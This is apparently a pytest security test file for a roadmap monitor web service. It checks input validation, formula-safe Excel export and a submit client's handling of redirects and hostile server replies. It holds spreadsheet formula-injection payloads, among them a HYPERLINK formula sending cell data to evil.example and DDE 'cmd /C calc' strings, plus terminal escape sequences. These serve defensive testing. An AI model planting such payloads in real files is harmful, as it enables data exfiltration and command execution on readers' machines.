"""The roadmap monitor's web service attacked from outside (issue 22), on SQLite and PostgreSQL.

Each case is an attack or a careless request that once got through; each now ends in a clean
refusal (a problem document naming the field path), changes nothing and leaks nothing.
"""

from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select

from critflow.server.monitor.models import MonitorProject, MonitorValue
from tests.server import conftest as server_fixtures
from tests.server.monitor import conftest as monitor_fixtures
from tests.server.monitor.conftest import headers, new_project, submit, value

# the registry's fixtures (SQLite and PostgreSQL) and the monitor's keys
database_url = server_fixtures.database_url
registry = server_fixtures.registry
monitor = monitor_fixtures.monitor

PROBLEM = "application/problem+json"
SHARE = "1.1-srm-from-recycling"  # a fraction
MASS_11 = "1.1-srm-recycled-mass"  # t


def _count(app, table) -> int:
    with app.state.registry.sessions() as session:
        return session.scalar(select(func.count()).select_from(table))


def _project_body(project_id: str, **extra) -> dict:
    return {
        "project_id": project_id,
        "title": "A project",
        "instrument": "icon",
        "domains": ["1.1"],
        "partners": [],
        "start_year": 2024,
        "end_year": 2028,
        **extra,
    }


@pytest.mark.parametrize(
    "reserved", ["aggregate", "Aggregate", "AGGREGATES", "programme", "template", "export"]
)
def test_a_project_may_not_take_a_word_the_monitor_uses(monitor, reserved):
    """A project called 'aggregate' drew its own values as the public aggregate's black line on
    every chart of its domain (its series replaced the aggregate's)."""
    client, keys, app = monitor
    response = client.post(
        "/api/monitor/projects", json=_project_body(reserved), headers=headers(keys.a)
    )
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    (problem,) = response.json()["problems"]
    assert problem["where"] == "project_id" and "uses itself" in problem["what"]
    assert _count(app, MonitorProject) == 0


def _ranges() -> dict[str, tuple[float, float]]:
    """The ranges as the data file states them, read with the csv module (not critflow)."""
    import csv

    from critflow import data

    with open(data.data_path("monitor_value_ranges.csv"), encoding="utf-8") as handle:
        rows = [r for r in csv.DictReader(line for line in handle if not line.startswith("#"))]
    assert all(r["source"].strip() for r in rows)
    return {r["applies_to"]: (float(r["minimum"]), float(r["maximum"])) for r in rows}


@pytest.mark.parametrize(
    ("kpi", "number", "unit", "words"),
    [
        (SHARE, 150, "%", "above the plausible range"),  # a share beyond 100 %
        (SHARE, -0.01, "1", "below the plausible range"),
        (SHARE, 15, "1", "0 to 1 (as a fraction)"),  # 15 % written with unit '1'
        (MASS_11, -5, "t", "below"),  # negative tonnes
        (MASS_11, 1e308, "t", "above"),
        (MASS_11, 1e306, "kt", "above"),  # 1e309 t after conversion: infinite
        (MASS_11, 2e8, "t", "0 to 1e+08 t"),
        ("2.1-crm-use-change", -20, "1", "-1 to 10 (as a fraction)"),  # -20 % written as -20
        ("2.1-crm-use-change", -250, "%", "-100 to 1000 %"),
    ],
)
def test_values_outside_their_kpi_range_are_refused(monitor, kpi, number, unit, words):
    """A share of 150 %, negative tonnes and 1e308 t were stored (three organisations' 1e308 t
    made every page with an aggregate fail: the sum overflowed)."""
    client, keys, app = monitor
    domain = kpi.split("-")[0]
    new_project(client, keys.a, "A-1", domains=(domain,))
    refused = submit(
        client,
        keys.a,
        [value("A-1", kpi, 2027, 0.1, unit), value("A-1", kpi, 2028, number, unit)],
        status=422,
    )
    (problem,) = refused["problems"]
    assert problem["where"] == "values[1].value"
    assert words in problem["what"] and kpi in problem["what"], problem
    assert _count(app, MonitorValue) == 0  # nothing of the batch, not even its valid first row


def test_the_range_bounds_themselves_are_accepted_and_aggregates_stay_finite(monitor):
    client, keys, _app = monitor
    low, high = _ranges()["kind:absolute"]
    for name, key in (("A", keys.a), ("B", keys.b), ("C", keys.c)):
        new_project(client, key, f"{name}-1")
        submit(
            client,
            key,
            [
                value(f"{name}-1", MASS_11, 2027, high, "t"),
                value(f"{name}-1", MASS_11, 2028, low, "t"),
            ],
        )
        submit(
            client,
            key,
            [value(f"{name}-1", SHARE, 2027, 100, "%"), value(f"{name}-1", SHARE, 2028, 0, "%")],
        )
    response = client.get("/api/monitor/aggregates")
    assert response.status_code == 200, response.text
    shown = {(a["kpi"], a["year"]): a["value"] for a in response.json()["aggregates"]}
    assert shown[(MASS_11, 2027)] == 3 * high and shown[(SHARE, 2027)] == 1.0


def test_unfc_tonnes_outside_their_range_are_refused(monitor):
    client, keys, _app = monitor
    new_project(client, keys.a, "A-1", domains=("1.2",))
    quantity = {
        "source": "tailings pond",
        "source_type": "tailings",
        "element": "Zn",
        "tonnes": 1e308,
        "reference_point": "zinc metal in concentrate",
        "e": "E2",
        "f": "F2.1",
        "g": "G2",
        "justification": "offtake agreement signed",
        "date": "2026-03-15",
        "evaluator": "J. Peeters",
    }
    response = client.post(
        "/api/monitor/projects/A-1/quantities",
        json={"quantities": [{**quantity, "tonnes": 12.5}, quantity]},
        headers=headers(keys.a),
    )
    assert response.status_code == 422, response.text
    (problem,) = response.json()["problems"]
    assert (
        problem["where"] == "quantities[1].tonnes"
        and "above the plausible range" in problem["what"]
    )


def _post_raw(client, key, path, raw: bytes):
    return client.post(
        path, content=raw, headers={**headers(key), "Content-Type": "application/json"}
    )


@pytest.mark.parametrize(
    ("body", "where", "words"),
    [
        # a misspelt field was ignored: the value went in without its unit check
        (
            {"values": [{**value("A-1", SHARE, 2027, 0.1, "1"), "unitt": "%"}]},
            "values[0].unitt",
            "not a field",
        ),
        (
            {"values": [value("A-1", SHARE, 2027, 0.1, "1")], "model_sha": "x"},
            "model_sha",
            "not a field",
        ),
        # a year as text, a number as text, a boolean as a number were converted
        (
            {"values": [{**value("A-1", SHARE, 2027, 0.1, "1"), "year": "2027"}]},
            "values[0].year",
            "got text",
        ),
        (
            {"values": [{**value("A-1", SHARE, 2027, 0.1, "1"), "value": "0.1"}]},
            "values[0].value",
            "got text",
        ),
        (
            {"values": [{**value("A-1", SHARE, 2027, 0.1, "1"), "value": True}]},
            "values[0].value",
            "got true/false",
        ),
        (
            {"values": [{**value("A-1", SHARE, 2027, 0.1, "1"), "year": 2027.0}]},
            "values[0].year",
            "got number",
        ),
        ({"values": {"0": value("A-1", SHARE, 2027, 0.1, "1")}}, "values", "list"),
    ],
)
def test_submission_bodies_are_taken_as_sent(monitor, body, where, words):
    client, keys, app = monitor
    new_project(client, keys.a, "A-1")
    response = client.post("/api/monitor/submissions", json=body, headers=headers(keys.a))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    problems = response.json()["problems"]
    assert problems[0]["where"] == where and words in problems[0]["what"], problems
    assert _count(app, MonitorValue) == 0


def test_project_bodies_are_taken_as_sent(monitor):
    client, keys, app = monitor
    for body, where in (
        (_project_body("A-1", organization="Beta Metals BV"), "organization"),  # US spelling
        (_project_body("A-1", start_year="2024"), "start_year"),
        (_project_body("A-1", domains="1.1"), "domains"),
    ):
        response = client.post("/api/monitor/projects", json=body, headers=headers(keys.a))
        assert response.status_code == 422, response.text
        assert response.json()["problems"][0]["where"] == where
    assert _count(app, MonitorProject) == 0


@pytest.mark.parametrize(
    ("raw", "where"),
    [
        # Python's parser keeps the last of two keys, others the first: which value counts?
        (
            b'{"values": [{"project": "A-1", "kpi": "%s", "year": 2027, "value": 0.1, "value": 0.9, "unit": "1"}]}'
            % SHARE.encode(),
            "values[0].value",
        ),
        (
            b'{"values": [], "values": [{"project": "A-1", "kpi": "%s", "year": 2027, "value": 0.1, "unit": "1"}]}'
            % SHARE.encode(),
            "values",
        ),
    ],
)
def test_a_key_given_twice_is_refused(monitor, raw, where):
    client, keys, app = monitor
    new_project(client, keys.a, "A-1")
    response = _post_raw(client, keys.a, "/api/monitor/submissions", raw)
    assert response.status_code == 422, response.text
    (problem,) = response.json()["problems"]
    assert problem["where"] == where and "twice" in problem["what"]
    assert _count(app, MonitorValue) == 0
    # the same key in two objects is fine
    ok = json.dumps(
        {"values": [value("A-1", SHARE, 2027, 0.1, "1"), value("A-1", SHARE, 2028, 0.2, "1")]}
    ).encode()
    assert _post_raw(client, keys.a, "/api/monitor/submissions", ok).status_code == 201


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _sheets(raw: bytes) -> dict[str, bytes]:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}


def test_the_excel_export_writes_texts_as_text_never_as_formulas(monitor):
    """A project title '=HYPERLINK(…)' was written as a live formula into the export of every
    reader (programme staff, its own company); '+', '-' and '@' texts became formulas once the
    reader edited the cell."""
    import io

    from openpyxl import Workbook, load_workbook

    client, keys, _app = monitor
    body = _project_body("A-1", title=HOSTILE_TEXTS[0], partners=HOSTILE_TEXTS[1:])
    assert (
        client.post("/api/monitor/projects", json=body, headers=headers(keys.a)).status_code == 201
    )
    # an upload whose file name is a formula (kept as provenance, exported)
    book = Workbook()
    book.active.title = "values"
    book.active.append(["project", "year", "kpi", "value", "unit"])
    book.active.append(["A-1", 2027, SHARE, 0.1, "1"])
    raw = io.BytesIO()
    book.save(raw)
    name = "=1+1.xlsx"
    response = client.post(
        "/api/monitor/uploads", files={"file": (name, raw.getvalue())}, headers=headers(keys.a)
    )
    assert response.status_code == 201, response.text
    for key in (keys.a, keys.programme):
        for path in ("/api/monitor/export.xlsx", "/api/monitor/template.xlsx"):
            exported = client.get(path, headers=headers(key)).content
            for sheet, xml in _sheets(exported).items():
                assert b"<f>" not in xml and b"<f " not in xml, (path, sheet)
            found = set()
            for sheet in load_workbook(io.BytesIO(exported)).worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path, sheet.title, cell.coordinate)
                        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                            assert cell.quotePrefix, (path, sheet.title, cell.coordinate)
                            found.add(cell.value)
            # the texts are there, as typed
            assert HOSTILE_TEXTS[0] in found, path
            if path.endswith("export.xlsx"):
                assert name in found


def test_a_value_given_twice_in_one_batch_refuses_the_batch(monitor):
    """Two values for one project, KPI and year in a batch were both stored, and the later one
    silently counted."""
    import io

    from openpyxl import Workbook

    client, keys, app = monitor
    new_project(client, keys.a, "A-1")
    refused = submit(
        client,
        keys.a,
        [
            value("A-1", SHARE, 2027, 0.1, "1"),
            value("A-1", SHARE, 2028, 0.2, "1"),
            value("A-1", SHARE, 2027, 90, "%"),
        ],
        status=422,
    )
    (problem,) = refused["problems"]
    assert problem["where"] == "values[2]" and "first at values[0]" in problem["what"]
    assert _count(app, MonitorValue) == 0
    # the same in an Excel upload: the row is named
    book = Workbook()
    book.active.title = "values"
    book.active.append(["project", "year", "kpi", "value", "unit"])
    book.active.append(["A-1", 2027, SHARE, 0.1, "1"])
    book.active.append(["A-1", 2027, SHARE, 0.2, "1"])
    raw = io.BytesIO()
    book.save(raw)
    response = client.post(
        "/api/monitor/uploads", files={"file": ("v.xlsx", raw.getvalue())}, headers=headers(keys.a)
    )
    assert response.status_code == 422, response.text
    (problem,) = response.json()["problems"]
    assert problem["where"].endswith("row 3") and "row 2" in problem["what"]
    assert _count(app, MonitorValue) == 0
    # two years, or two KPIs, in one batch are fine
    submit(
        client, keys.a, [value("A-1", SHARE, 2027, 0.1, "1"), value("A-1", SHARE, 2028, 0.2, "1")]
    )
    assert _count(app, MonitorValue) == 2


# --- the submit client against a hostile server ----------------------------------------------
class _Hostile:
    """An HTTP server on a free port answering every request with ``answer(handler)``; records
    the requests it got (path and headers)."""

    def __init__(self, answer):
        import http.server
        import threading

        from tests.conftest import free_port

        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self):
                seen.append(
                    (self.command, self.path, {k.lower(): v for k, v in self.headers.items()})
                )
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                status, head, body = answer(self)
                self.send_response(status)
                for name, text in head.items():
                    self.send_header(name, text)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _any  # noqa: N815 (http.server's names)

            def log_message(self, *args):
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.port}"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def hostile():
    made = []

    def make(answer):
        made.append(_Hostile(answer))
        return made[-1]

    yield make
    for server in made:
        server.close()


def _cli_submit(url: str, project: str = "A-1"):
    from tests.conftest import ROOT, critflow_cli

    model = ROOT / "examples" / "battery_recycling_hydromet.yaml"
    return critflow_cli(
        "monitor", "submit", model, "--project", project, "--year", "2027", "--server", url,
        "--key", "secret-key-123",
    )  # fmt: skip


def test_the_submit_client_follows_no_redirect(hostile):
    """The client followed a redirect to another host and sent the API key along."""
    elsewhere = hostile(lambda h: (200, {"Content-Type": "application/json"}, b"{}"))
    server = hostile(lambda h: (302, {"Location": elsewhere.url + h.path}, b""))
    result = _cli_submit(server.url)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "redirect" in result.stderr and "Traceback" not in result.stderr
    assert elsewhere.seen == []  # the key never left for the other host
    assert server.seen[0][2]["x-api-key"] == "secret-key-123"


ESC = "\x1b]0;pwned\x07\x1b[2J"


@pytest.mark.parametrize(
    ("status", "body", "words"),
    [
        (200, b"<html>login</html>", "not JSON"),
        (200, b"[1, 2, 3]", "not what a critflow monitor sends"),
        (200, b'{"project_id": "A-1", "domains": 5}', "not what a critflow monitor sends"),
        (200, b'{"project_id": "A-1", "domains": ["9.9"]}', "not what a critflow monitor sends"),
        (200, b'{"project_id": "B-7", "domains": ["1.1"]}', "not what a critflow monitor sends"),
        (200, b"[" * 100_000, "not JSON"),  # a parser's recursion limit
        (404, b"[]", "404"),  # a problem document that is not an object
        (404, b'{"problems": "x"}', "404"),
        (404, b'{"problems": [1, null]}', "404"),
        (422, json.dumps({"problems": [{"where": ESC, "what": ESC * 50}]}).encode(), "server:"),
        (500, ESC.encode() * 10, "500"),
    ],
)
def test_the_submit_client_survives_a_hostile_answer(hostile, status, body, words):
    server = hostile(lambda h: (status, {"Content-Type": "application/json"}, body))
    result = _cli_submit(server.url)
    assert result.returncode == 2, result.stdout + result.stderr
    assert words in result.stderr, result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr) < 5000


def test_the_submit_client_checks_the_answer_to_a_submission(hostile):
    """A server answering the submission with junk: a message, not a KeyError; the hash printed
    is the client's own."""
    project = json.dumps({"project_id": "A-1", "domains": ["1.1"]}).encode()

    def answer(handler):
        if handler.command == "GET":
            return 200, {"Content-Type": "application/json"}, project
        return 201, {"Content-Type": "application/json"}, b'{"batch": "[red]x[/red]"}'

    result = _cli_submit(hostile(answer).url)
    assert result.returncode == 2 and "not what a critflow monitor sends" in result.stderr
